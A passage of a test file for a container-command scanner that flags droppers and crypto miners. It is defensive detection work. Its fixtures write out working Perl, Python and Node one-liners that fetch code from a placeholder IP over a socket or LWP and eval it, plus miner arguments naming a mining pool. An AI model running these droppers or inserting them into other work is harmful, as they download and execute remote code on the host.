    ['sh', '-c', `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("203.0.113.9:80");eval(join"",<$s>)'`],
  ]) {
    const container = { command }
    const name = JSON.stringify(command)
    // `\bLWP::` needs a word start, and -M stands before it: the -M spelling is read on its own.
    t.same(scannerSays(gatedScanner, container), scannerSays(ungatedScanner, container), name)
    const kinds = scannerSays(gatedScanner, container).map((signal) => signal.kind)
    t.ok(kinds.includes('download-to-shell'), `${name}: ${JSON.stringify(kinds)}`)
  }
  // Loading LWP without executing what it gets is no dropper.
  const kinds = scannerSays(gatedScanner, { command: ['perl', '-MLWP::Simple', '-e', 'getstore("http://203.0.113.9/x", "x")'] }).map((s) => s.kind)
  t.notOk(kinds.includes('download-to-shell'), JSON.stringify(kinds))
})

t.test('a Perl, Python or Node one-liner that evals what a socket or LWP returns, without parentheses or spaces, is a dropper', async (t) => {
  for (const command of [
    ['sh', '-c', `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("203.0.113.9:80");print $s "GET /x HTTP/1.0\\r\\n\\r\\n";eval join"",<$s>'`],
    ['perl', '-e', 'use IO::Socket;$s=IO::Socket::INET->new(PeerAddr=>"203.0.113.9:80");print $s "GET /x\\n";eval join q(),<$s>'],
    ['perl', '-e', 'use LWP::Simple;eval+get"http://203.0.113.9/x"'],
    ['perl', '-MLWP::Simple', '-e', 'eval +get q{http://203.0.113.9/x}'],
    ['perl', '-e', 'use IO::Socket::INET;$s=IO::Socket::INET->new("203.0.113.9:80");print$s"GET /\\n";eval<$s>'],
    ['perl', '-e', 'use IO::Socket::INET;$s=IO::Socket::INET->new("203.0.113.9:80");print$s"GET /\\n";eval do{local$/;<$s>}'],
    ['perl', '-e', 'use IO::Socket::INET;$s=IO::Socket::INET->new("203.0.113.9:80");print$s"GET /\\n";eval scalar<$s>'],
    // Perl's own socket(), and Python's: no module name to read, the call itself fetches.
    ['sh', '-c', `perl -e 'use Socket;socket(S,2,1,6);connect(S,pack("SnC4x8",2,80,203,0,113,9));print S "GET /x\\n";eval join"",<S>'`],
    ['python3', '-c', 'import socket;s=socket.create_connection(("203.0.113.9",80));s.send(b"GET /x\\n");exec(s.recv(99999))'],
    ['node', '-e', 'const s=new (require("net").Socket)();s.connect(80,"203.0.113.9");s.on("data",d=>eval(String(d)))'],
    ['node', '-e', 'const n=require("net");const s=new n.Socket();s.connect(80,"203.0.113.9");s.on("data",d=>eval(""+d))'],
    ['node', '-e', 'require("node:net").connect(80,"203.0.113.9").on("data",d=>eval(""+d))'],
  ]) {
    const container = { command }
    const name = JSON.stringify(command)
    t.same(scannerSays(gatedScanner, container), scannerSays(ungatedScanner, container), name)
    const kinds = scannerSays(gatedScanner, container).map((signal) => signal.kind)
    t.ok(kinds.includes('download-to-shell'), `${name}: ${JSON.stringify(kinds)}`)
    // With the address in a URL (6) the dropper (4) reaches the refusal threshold.
    if (command.some((word) => word.includes('http://'))) t.equal(verdicts(container, 'miner-signals')[0]?.action, 'deny', name)
  }
})

t.test('eval of a block, or of text no socket or LWP fetched, is no dropper', async (t) => {
  for (const command of [
    // `eval {…}` runs the block: what getstore saves or get returns is never run as code.
    ['perl', '-MLWP::Simple', '-e', 'eval { getstore("http://203.0.113.9/x", "x") }; print "saved\n"'],
    ['perl', '-MLWP::Simple', '-e', 'my $page = eval{get"http://203.0.113.9/x"}; print length $page'],
    ['perl', '-e', 'use IO::Socket::INET; my $s = IO::Socket::INET->new("db.internal:5432") or die; eval { close $s }'],
    ['perl', '-e', 'eval join ";", @ARGV', 'print 1', 'print 2'],
    ['python3', '-c', 'import socket; print(socket.gethostname())'],
    ['node', '-e', 'require("net").createServer((c) => c.end("ok")).listen(8080)'],
  ]) {
    const container = { command }
    const name = JSON.stringify(command)
    const kinds = scannerSays(gatedScanner, container).map((signal) => signal.kind)
    t.notOk(kinds.includes('download-to-shell'), `${name}: ${JSON.stringify(kinds)}`)
    t.same(scannerSays(gatedScanner, container), scannerSays(ungatedScanner, container), name)
  }
})

t.test('a pool named without its port connects, never reported by itself: curl -o file -u user is no miner', async (t) => {
  t.ok(namesPoolAndAccount(`/tmp/x -o pool.supportxmr.com -u ${W} -k`))
  t.ok(namesPoolAndAccount('/tmp/x -o pool.example.net:3333 -o backup.example.net --user w -k'), 'a port-less host after an endpoint')
  t.notOk(namesPoolAndAccount('/tmp/x -o pool.supportxmr.com; -u w'), 'the account in another command')
  t.notOk(namesPoolAndAccount('/tmp/x -o localhost -u w'), 'a host without a dot')
  t.same(grammarSays(ungated, 'curl -k -o backup.tar.gz -u admin https://files.example/b.tgz').quotes, [], 'reported only with a port')
  t.same(verdicts({ command: ['curl', '-k', '-o', 'backup.tar.gz', '-u', 'admin', 'https://files.example/b.tgz'] }, 'miner-signals'), [])
})
